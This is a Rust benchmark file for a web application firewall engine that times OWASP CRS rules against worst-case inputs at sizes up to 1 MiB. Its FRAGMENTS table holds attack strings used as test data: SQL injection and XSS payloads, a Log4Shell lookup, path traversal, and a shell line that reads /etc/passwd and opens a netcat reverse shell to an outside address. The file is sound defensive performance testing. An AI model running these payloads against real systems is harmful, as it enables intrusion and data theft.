//! Adversarial engine benchmark: inputs built to be worst cases for CRS v4's
//! patterns, at several sizes, to show that engine time grows linearly with input
//! size and to report it in milliseconds per MiB.
//!
//! Cases:
//! - a CVE-2018-18898-style address list (quoted display names and addresses, cut off
//!   mid-quote) in a `From` header, in the `Referer` header and as a form argument;
//! - 1 MiB-class urlencoded bodies whose one argument repeats a fragment that keeps
//!   CRS's SQLi, XSS, RCE, LFI, Log4Shell and decoding rules busy;
//! - the same fragments as a JSON string;
//! - the shapes that made libinjection's SQLi tokenizer quadratic (`a.`, `a\``, `or.`);
//! - many arguments (up to 10,000) in the query string and in the body, distinct,
//!   sharing one name, or bare;
//! - response bodies (phase 4): an HTML page of ordinary text, one that repeats
//!   database and PHP error messages, and (fresh) one of random printable text;
//! - bytes never seen before, fresh on every run (the cases named `fresh`): a
//!   multipart upload of random bytes (a compressed file's body), random printable
//!   text as a form argument and as a JSON string, and (benign) a file as base64 in
//!   a JSON call. Repeated inputs let the lazy DFAs
//!   keep the states they built; these show what a walk costs when it must build them,
//!   and are also measured at 4 and 16 KiB (16 KiB is the largest body the proxy
//!   inspects inline).
//!
//! The rule set is CRS v4 at PL1 (by default) with body limits raised and no argument limit, so
//! the engine does all of the work (with the stock limits, 200007 or the body limit
//! would refuse most of these early).
//!
//! Run: `cargo bench -p engine --bench adversarial [-- FILTER] [--quick]`; `--quick`
//! stops at 256 KiB. The target is at most 20 ms of engine time per MiB.
//!
//! `PALISADE_ADV_CRS=v3` runs Debian's CRS 3.3.4 instead, with the same settings, to
//! compare with libmodsecurity (`bench/modsec_fresh.py` times the fresh cases there).
//!
//! For profiling, `PALISADE_ADV_LOOP=N` runs each selected case N times (after one
//! warm-up run) without timing or printing a table: a target for `perf record` or
//! `valgrind --tool=callgrind --toggle-collect=adversarial::common::run`.

mod common;

/// The allocator the `palisade` binary runs with, so that the figures are the product's.
#[global_allocator]
static GLOBAL: mimalloc::MiMalloc = mimalloc::MiMalloc;

use common::{RawRequest, Response, Rng};
use engine::Ruleset;
use std::sync::Arc;
use std::time::Duration;

/// Engine settings: blocking, bodies inspected up to 64 MiB, no argument limit.
const SETTINGS: &str = r#"
SecRuleEngine On
SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "@rx ^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRequestBodyLimit 67108864
SecRequestBodyNoFilesLimit 67108864
SecRequestBodyLimitAction Reject
SecArgumentsLimit 1000000
SecAuditEngine Off
SecResponseBodyAccess On
SecResponseBodyMimeType text/html text/plain
SecResponseBodyLimit 67108864
SecResponseBodyLimitAction Reject
"#;

/// The target: engine milliseconds per MiB of input.
const TARGET_MS_PER_MIB: f64 = 20.0;

fn base_headers() -> Vec<(Vec<u8>, Vec<u8>)> {
    [
        ("Host", "localhost"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        ("Accept", "text/html,application/xhtml+xml,*/*;q=0.8"),
        ("Accept-Language", "en-GB,en;q=0.5"),
        (
            "Cookie",
            "session=6f1c2a9b4e7d0a13; theme=dark; consent=yes",
        ),
    ]
    .iter()
    .map(|(k, v)| (k.as_bytes().to_vec(), v.as_bytes().to_vec()))
    .collect()
}

/// A POST of `body` to `path` with the given Content-Type.
fn post(path: &str, content_type: &str, body: Vec<u8>) -> RawRequest {
    request(
        "POST",
        path.as_bytes().to_vec(),
        vec![("Content-Type", content_type.as_bytes().to_vec())],
        body,
    )
}

fn request(
    method: &str,
    target: Vec<u8>,
    extra: Vec<(&str, Vec<u8>)>,
    body: Vec<u8>,
) -> RawRequest {
    let mut headers = base_headers();
    for (k, v) in extra {
        headers.push((k.as_bytes().to_vec(), v));
    }
    if method == "POST" {
        headers.push((
            b"Content-Length".to_vec(),
            body.len().to_string().into_bytes(),
        ));
    }
    RawRequest {
        name: String::new(),
        method: method.as_bytes().to_vec(),
        target,
        protocol: b"HTTP/1.1".to_vec(),
        headers,
        body,
    }
}

/// A list of quoted display names and addresses, `size` bytes long, that ends inside
/// an unterminated quoted name (the CVE-2018-18898 shape).
fn address_list(size: usize) -> Vec<u8> {
    let names = [
        "Alice \\\"Al\\\" Example",
        "Bob O'Brien",
        "Carol, Finance",
        "Dave (IT) Support",
        "Eve <no-reply>",
    ];
    let mut out = Vec::with_capacity(size + 64);
    let mut i = 0;
    while out.len() < size {
        let n = names[i % names.len()];
        out.extend_from_slice(
            format!("\"{n} {i}\" <user{i}@mail{}.example.com>, ", i % 97).as_bytes(),
        );
        i += 1;
    }
    out.truncate(size.saturating_sub(12));
    out.extend_from_slice(b", \"Unfinishe");
    out.truncate(size);
    out
}

/// Fragments that keep CRS patterns working; each is repeated to the input size.
const FRAGMENTS: &[(&str, &[u8])] = &[
    (
        "sqli-tokens",
        b"' or 1=1 union select /*x*/ char(0x41),@@version from dual where '1' like '",
    ),
    (
        "xss-tags",
        b"<a href=javascript:x onmouseover=alert(1) style=x:expression(1)><svg/onload=1 ",
    ),
    (
        "rce-shell",
        b";cat /etc/passwd|nc -e /bin/sh 1.2.3.4 $(id)`uname -a`&&wget http://x/ ",
    ),
    ("lfi-dots", b"../..%2f..%252f..\\..%c0%af"),
    ("log4j-open", b"${${lower:j}${::-n}di:${env:x:-l}dap://"),
    (
        "entities",
        b"&#x3c;&#60;&lt;&#0000060;&#x00003C;&quot;&amp;&#",
    ),
    ("percent", b"%25%32%35%u0027%uff1c%c0%bc%00%"),
    ("backslash", b"\\x3c\\u003c\\074\\\\\\'\\\"\\"),
    ("open-quote", b"\"'`(((([[[{{{"),
    ("spaces", b" \t \r\n \x0b "),
    ("high-bytes", b"\x80\xff\xc3\x28\xe2\x82\xfe\xc0\xaf"),
    ("plain", b"a"),
    // The shapes that were quadratic in the SQLi detector (a word full of dots or
    // backticks; keyword-dot pairs the fold swallows one by one).
    ("sqli-a-dot", b"a."),
    ("sqli-a-backtick", b"a`"),
    ("sqli-ab-dot", b"ab."),
    ("sqli-a-dot-dot", b"a.."),
    ("sqli-or-dot", b"or."),
    ("sqli-and-dot", b"and."),
];

/// Percent-encodes every byte that is not unreserved, for a urlencoded body.
fn urlencode(v: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(v.len() * 3);
    for &b in v {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b);
        } else {
            out.extend_from_slice(format!("%{b:02X}").as_bytes());
        }
    }
    out
}

/// Escapes bytes for a JSON string (high bytes and controls as `\u00XX`).
fn json_escape(v: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(v.len() * 2);
    for &b in v {
        match b {
            b'"' => out.extend_from_slice(b"\\\""),
            b'\\' => out.extend_from_slice(b"\\\\"),
            0..=0x1f | 0x80..=0xff => out.extend_from_slice(format!("\\u{b:04x}").as_bytes()),
            _ => out.push(b),
        }
    }
    out
}

/// `{"comment":"<frag repeated>"}` padded with trailing whitespace to exactly `size`
/// bytes; only whole escaped fragments go in, so the document is always valid.
fn json_body(frag: &[u8], size: usize) -> Vec<u8> {
    let unit = json_escape(frag);
    let mut out = b"{\"comment\":\"".to_vec();
    while out.len() + unit.len() + 2 <= size {
        out.extend_from_slice(&unit);
    }
    out.extend_from_slice(b"\"}");
    out.resize(size.max(out.len()), b' ');
    out
}

/// `comment=<frag percent-encoded, repeated>` padded with `a` to exactly `size` bytes;
/// only whole encoded fragments go in.
fn form_body(frag: &[u8], size: usize) -> Vec<u8> {
    let unit = urlencode(frag);
    let mut out = b"comment=".to_vec();
    while out.len() + unit.len() <= size {
        out.extend_from_slice(&unit);
    }
    out.resize(size.max(out.len()), b'a');
    out
}

/// One adversarial case at one size: the request and the bytes it carries.
struct Case {
    name: String,
    size: usize,
    req: RawRequest,
    /// For a `fresh` case, further requests of the same shape with other random
    /// bytes: each run takes the next, so no run sees bytes an earlier one saw.
    more: Vec<RawRequest>,
    /// For a response case, the responses its runs take in turn (the first for a
    /// repeated case; a fresh one has one per run, so no run sees bytes an earlier one
    /// saw). The request is then an ordinary GET, and `size` is the body's.
    responses: Vec<Response>,
}

impl Case {
    /// A case of requests only.
    fn new(name: impl Into<String>, size: usize, req: RawRequest) -> Case {
        Case {
            name: name.into(),
            size,
            req,
            more: Vec::new(),
            responses: Vec::new(),
        }
    }
}

/// An HTML response whose body is `body`.
fn html_response(body: Vec<u8>) -> Response {
    Response {
        status: 200,
        headers: vec![
            (b"Content-Type", b"text/html; charset=utf-8".to_vec()),
            (b"Content-Length", body.len().to_string().into_bytes()),
        ],
        body,
    }
}

/// Response bodies of `size` bytes: an HTML page of ordinary text and one repeating
/// error messages that CRS's data-leakage rules look for (both repeated on every
/// run), and pages of random printable text (fresh on every run).
fn response_cases(sizes: &[usize]) -> Vec<Case> {
    const ORDINARY: &[u8] = b"<li><a href=\"/shop/item/42\">Garden chair, oak</a> <span class=\"price\">49.90</span> in stock, ships in two days</li>\n";
    const LEAKS: &[u8] = b"<b>Warning</b>: mysql_fetch_array() expects parameter 1; You have an error in your SQL syntax near line 1; ORA-00933: SQL command not properly ended at java.lang.NullPointerException\n";
    let page = |unit: &[u8], size: usize| {
        let mut body = b"<!doctype html><html><body><ul>\n".to_vec();
        while body.len() + unit.len() <= size {
            body.extend_from_slice(unit);
        }
        body.resize(size, b' ');
        body
    };
    let get = || request("GET", b"/shop/list".to_vec(), vec![], Vec::new());
    let mut rng = Rng(0x2545_f491_4f6c_dd1d);
    let mut out = Vec::new();
    for &size in sizes {
        for (name, unit) in [("response html text", ORDINARY), ("response leaks", LEAKS)] {
            out.push(Case {
                responses: vec![html_response(page(unit, size))],
                ..Case::new(name, size, get())
            });
        }
        let responses = (0..fresh_runs(size))
            .map(|_| {
                let mut body = b"<!doctype html><html><body><p>".to_vec();
                body.extend_from_slice(&rng.text(size.saturating_sub(body.len())));
                html_response(body)
            })
            .collect();
        out.push(Case {
            responses,
            ..Case::new("fresh response html random text", size, get())
        });
    }
    out
}

/// A multipart upload of one file part of random bytes, `size` bytes in all.
fn upload(rng: &mut Rng, size: usize) -> RawRequest {
    let boundary = format!("----form{:016x}", rng.next());
    let head = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"photo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n"
    );
    let tail = format!("\r\n--{boundary}--\r\n");
    let mut body = head.into_bytes();
    let fill = size.saturating_sub(body.len() + tail.len());
    body.extend_from_slice(&rng.bytes(fill));
    body.extend_from_slice(tail.as_bytes());
    post(
        "/upload",
        &format!("multipart/form-data; boundary={boundary}"),
        body,
    )
}

/// How many distinct requests a `fresh` case of `size` bytes carries: enough runs to
/// time, few enough to build quickly.
fn fresh_runs(size: usize) -> usize {
    ((4 << 20) / size).clamp(6, 64)
}

/// The `fresh` cases at each size: `fresh_runs` requests each, from a fixed seed.
fn fresh_cases(sizes: &[usize]) -> Vec<Case> {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut out = Vec::new();
    type Make = fn(&mut Rng, usize) -> RawRequest;
    let shapes: [(&str, Make); 4] = [
        ("fresh upload random bytes", upload),
        ("fresh form random text", |rng, size| {
            let mut body = b"comment=".to_vec();
            while body.len() < size {
                body.extend_from_slice(&urlencode(&rng.text(64)));
            }
            body.truncate(size);
            // A cut percent escape would be an encoding error of its own.
            while body[body.len() - 2..].contains(&b'%') {
                body.pop();
            }
            post("/comment", "application/x-www-form-urlencoded", body)
        }),
        ("fresh json random text", |rng, size| {
            let mut text = Vec::new();
            while text.len() < size {
                text.extend_from_slice(&json_escape(&rng.text(64)));
            }
            // Whole escapes only: cut before the last backslash near the end.
            let keep = size.saturating_sub(16);
            let mut cut = keep.min(text.len());
            while text[..cut]
                .iter()
                .rev()
                .take_while(|&&b| b == b'\\')
                .count()
                % 2
                == 1
            {
                cut -= 1;
            }
            text.truncate(cut);
            let mut body = b"{\"comment\":\"".to_vec();
            body.extend_from_slice(&text);
            body.extend_from_slice(b"\"}");
            post("/api/comment", "application/json", body)
        }),
        // Not an attack: a JSON API call carrying a file as base64, as many do.
        ("fresh json base64 file", |rng, size| {
            use base64::Engine as _;
            let raw = rng.bytes(size.saturating_sub(32) / 4 * 3);
            let mut body = b"{\"name\":\"photo.jpg\",\"data\":\"".to_vec();
            body.extend_from_slice(
                base64::engine::general_purpose::STANDARD
                    .encode(raw)
                    .as_bytes(),
            );
            body.extend_from_slice(b"\"}");
            post("/api/files", "application/json", body)
        }),
    ];
    for &size in sizes {
        for (name, make) in shapes {
            let mut reqs: Vec<RawRequest> = (0..fresh_runs(size))
                .map(|_| make(&mut rng, size))
                .collect();
            let req = reqs.remove(0);
            out.push(Case {
                more: reqs,
                ..Case::new(name, size, req)
            });
        }
    }
    out
}

fn cases(sizes: &[usize]) -> Vec<Case> {
    let mut out = Vec::new();
    for &size in sizes {
        let list = address_list(size);
        out.push(Case::new(
            "cve-2018-18898 From header",
            size,
            request(
                "GET",
                b"/inbox".to_vec(),
                vec![("From", list.clone())],
                Vec::new(),
            ),
        ));
        out.push(Case::new(
            "cve-2018-18898 Referer header",
            size,
            request(
                "GET",
                b"/inbox".to_vec(),
                vec![("Referer", list.clone())],
                Vec::new(),
            ),
        ));
        let mut body = b"to=".to_vec();
        body.extend_from_slice(&urlencode(&list));
        body.truncate(size);
        out.push(Case::new(
            "cve-2018-18898 form arg",
            size,
            post("/send", "application/x-www-form-urlencoded", body),
        ));
        for (frag_name, frag) in FRAGMENTS {
            out.push(Case::new(
                format!("form {frag_name}"),
                size,
                post(
                    "/comment",
                    "application/x-www-form-urlencoded",
                    form_body(frag, size),
                ),
            ));
            out.push(Case::new(
                format!("json {frag_name}"),
                size,
                post("/api/comment", "application/json", json_body(frag, size)),
            ));
        }
    }
    out
}

/// Requests with `n` arguments, in the query string and in a form body, all with
/// distinct names; a form body of `n` arguments that all share one name; and one of
/// `n` bare `'` arguments (no `=`, no value).
fn many_args(counts: &[usize]) -> Vec<Case> {
    let mut out = Vec::new();
    for &n in counts {
        let mut same = Vec::new();
        for i in 0..n {
            if i > 0 {
                same.push(b'&');
            }
            same.extend_from_slice(format!("f=v{i}").as_bytes());
        }
        let bare: Vec<u8> = b"'&".repeat(n);
        out.push(Case::new(
            format!("{n} bare body args"),
            bare.len(),
            post("/form", "application/x-www-form-urlencoded", bare),
        ));
        out.push(Case::new(
            format!("{n} same-name body args"),
            same.len(),
            post("/form", "application/x-www-form-urlencoded", same),
        ));
        let mut q = b"/list?".to_vec();
        let mut body = Vec::new();
        for i in 0..n {
            if i > 0 {
                q.push(b'&');
                body.push(b'&');
            }
            q.extend_from_slice(format!("f{i}=v{i}").as_bytes());
            body.extend_from_slice(format!("f{i}=v{i}").as_bytes());
        }
        let qlen = q.len();
        out.push(Case::new(
            format!("{n} query args"),
            qlen,
            request("GET", q, vec![], Vec::new()),
        ));
        let blen = body.len();
        out.push(Case::new(
            format!("{n} body args"),
            blen,
            post("/form", "application/x-www-form-urlencoded", body),
        ));
    }
    out
}

/// One measurement: input size in bytes, median engine milliseconds, and the status of
/// the intervention (None when the request passed).
type Timing = (usize, f64, Option<u16>);

/// Engine CPU time of one run of `case`: the thread's CPU time over a loop of runs
/// lasting at least `budget` (and at least 3 runs), divided by the runs. (The kernel
/// updates the thread's CPU clock at scheduler ticks, so single runs are not timed on
/// their own.) Also returns the status of the intervention, if any.
fn time_case(rs: &Arc<Ruleset>, case: &Case, budget: Duration) -> (Duration, Option<u16>) {
    if case.responses.len() > 1 {
        // A fresh response on every run, as for fresh requests below.
        let status = common::run(rs, &case.req, case.responses.first()).map(|i| i.status);
        let mut next = case.responses[1..].iter().cycle();
        let (cpu_us, _, _) = common::cpu_per_call(
            || {
                let resp = next.next().expect("a fresh case has more responses");
                std::hint::black_box(common::run(rs, &case.req, Some(resp)));
            },
            Duration::ZERO,
            case.responses.len() as u64 - 1,
        );
        return (Duration::from_secs_f64(cpu_us / 1e6), status);
    }
    if !case.more.is_empty() {
        // Each run on bytes not seen before: the first request warms what does not
        // depend on them (and gives the status), the others are timed once each.
        let status = common::run(rs, &case.req, None).map(|i| i.status);
        let mut next = case.more.iter().cycle();
        let (cpu_us, _, _) = common::cpu_per_call(
            || {
                let req = next.next().expect("a fresh case has more requests");
                std::hint::black_box(common::run(rs, req, None));
            },
            Duration::ZERO,
            case.more.len() as u64 - 1,
        );
        return (Duration::from_secs_f64(cpu_us / 1e6), status);
    }
    let resp = case.responses.first();
    let status = common::run(rs, &case.req, resp).map(|i| i.status);
    let (cpu_us, _, _) = common::cpu_per_call(
        || {
            std::hint::black_box(common::run(rs, &case.req, resp));
        },
        budget,
        3,
    );
    (Duration::from_secs_f64(cpu_us / 1e6), status)
}

fn main() {
    let args: Vec<String> = std::env::args()
        .skip(1)
        .filter(|a| a != "--bench")
        .collect();
    let quick = args.iter().any(|a| a == "--quick");
    let filter: Option<&String> = args.iter().find(|a| !a.starts_with("--"));
    let v3 = std::env::var("PALISADE_ADV_CRS").is_ok_and(|v| v == "v3");
    let (rs, secs) = if v3 {
        common::crs_v3_with(SETTINGS).unwrap_or_else(|e| panic!("CRS 3.3.4: {e}"))
    } else {
        common::crs_v4_with(SETTINGS).unwrap_or_else(|e| panic!("CRS v4: {e}"))
    };
    eprintln!(
        "{} loaded in {:.0} ms",
        if v3 { "CRS 3.3.4" } else { "CRS v4" },
        secs * 1e3
    );

    let sizes: &[usize] = if quick {
        &[64 << 10, 256 << 10]
    } else {
        &[64 << 10, 256 << 10, 1 << 20]
    };
    let counts: &[usize] = if quick {
        &[1000, 2500]
    } else {
        &[1000, 2500, 10_000]
    };
    let fresh_sizes: Vec<usize> = [4 << 10, 16 << 10]
        .into_iter()
        .chain(sizes.iter().copied())
        .collect();
    let mut all = cases(sizes);
    all.extend(many_args(counts));
    all.extend(fresh_cases(&fresh_sizes));
    all.extend(response_cases(sizes));
    let all: Vec<Case> = all
        .into_iter()
        .filter(|c| filter.is_none_or(|f| c.name.contains(f.as_str())))
        .collect();
    for c in &all {
        if c.name.starts_with("json ") {
            assert!(
                serde_json::from_slice::<serde_json::Value>(&c.req.body).is_ok(),
                "{} at {} bytes is not valid JSON",
                c.name,
                c.size
            );
        }
    }

    if let Some(n) = std::env::var("PALISADE_ADV_LOOP")
        .ok()
        .and_then(|v| v.parse::<u64>().ok())
    {
        for c in &all {
            std::hint::black_box(common::run(&rs, &c.req, c.responses.first()));
            if c.responses.len() > 1 {
                for resp in c.responses[1..].iter().take(n as usize) {
                    std::hint::black_box(common::run(&rs, &c.req, Some(resp)));
                }
                eprintln!(
                    "{} at {} B: {} fresh runs",
                    c.name,
                    c.size,
                    (c.responses.len() - 1).min(n as usize)
                );
                continue;
            }
            if !c.more.is_empty() {
                // Fresh bytes on every run: each of its requests once, `n` at most.
                for req in c.more.iter().take(n as usize) {
                    std::hint::black_box(common::run(&rs, req, None));
                }
                eprintln!(
                    "{} at {} B: {} fresh runs",
                    c.name,
                    c.size,
                    c.more.len().min(n as usize)
                );
                continue;
            }
            for _ in 0..n {
                std::hint::black_box(common::run(&rs, &c.req, c.responses.first()));
            }
            eprintln!("{} at {} B: {n} runs", c.name, c.size);
        }
        return;
    }

    let mut rows: Vec<(String, Vec<Timing>)> = Vec::new();
    for c in &all {
        let (t, status) = time_case(&rs, c, Duration::from_millis(400));
        let ms = t.as_secs_f64() * 1e3;
        match rows.iter_mut().find(|(n, _)| *n == c.name) {
            Some((_, v)) => v.push((c.size, ms, status)),
            None => rows.push((c.name.clone(), vec![(c.size, ms, status)])),
        }
        eprintln!(
            "{:<34} {:>8} B  {:>9.2} ms  {:>8.2} ms/MiB  {}",
            c.name,
            c.size,
            ms,
            ms / (c.size as f64 / 1048576.0),
            status
                .map(|s| s.to_string())
                .unwrap_or_else(|| "pass".into())
        );
    }

    // Summary: ms/MiB per size, and the growth factor between the smallest and the
    // largest size (1.0 = linear; the fixed per-transaction cost makes small inputs
    // look dearer per MiB, so a factor below 1 is expected).
    println!();
    println!("| case | size | engine ms | ms per MiB | marginal ms per MiB | verdict |");
    println!("|---|---:|---:|---:|---:|---|");
    let mut worst: f64 = 0.0;
    let mut worst_name = String::new();
    let mut over = 0;
    // Fresh inputs are summed up apart: they measure the lazy DFAs building states,
    // which the repeated cases (the issue's target) do once.
    let mut fresh_worst: f64 = 0.0;
    let mut fresh_worst_name = String::new();
    let mut fresh_over = 0;
    for (name, v) in &rows {
        for (k, (size, ms, status)) in v.iter().enumerate() {
            let per = ms / (*size as f64 / 1048576.0);
            let marginal = if k > 0 {
                let (s0, m0, _) = v[k - 1];
                format!("{:.2}", (ms - m0) / ((size - s0) as f64 / 1048576.0))
            } else {
                "".into()
            };
            let is_args = name.contains("args");
            if name.starts_with("fresh ") {
                if *size >= (256 << 10) && per > fresh_worst {
                    fresh_worst = per;
                    fresh_worst_name = format!("{name} at {size} B");
                }
                if *size >= (256 << 10) && per > TARGET_MS_PER_MIB {
                    fresh_over += 1;
                }
            } else if !is_args && *size >= (256 << 10) && per > worst {
                worst = per;
                worst_name = format!("{name} at {size} B");
            }
            if !is_args
                && !name.starts_with("fresh ")
                && *size >= (256 << 10)
                && per > TARGET_MS_PER_MIB
            {
                over += 1;
            }
            println!(
                "| {name} | {} | {ms:.2} | {per:.2} | {marginal} | {} |",
                human(*size),
                status
                    .map(|s| s.to_string())
                    .unwrap_or_else(|| "pass".into())
            );
        }
    }
    println!();
    println!(
        "adversarial: worst {worst:.1} ms/MiB ({worst_name}); {over} case(s) at >= 256 KiB over the {TARGET_MS_PER_MIB} ms/MiB target"
    );
    if fresh_worst > 0.0 {
        println!(
            "adversarial, fresh inputs: worst {fresh_worst:.1} ms/MiB ({fresh_worst_name}); {fresh_over} case(s) at >= 256 KiB over {TARGET_MS_PER_MIB} ms/MiB"
        );
    }
}

fn human(n: usize) -> String {
    if n >= 1 << 20 && n.is_multiple_of(1 << 20) {
        format!("{} MiB", n >> 20)
    } else if n >= 1 << 10 && n.is_multiple_of(1 << 10) {
        format!("{} KiB", n >> 10)
    } else {
        format!("{n} B")
    }
}
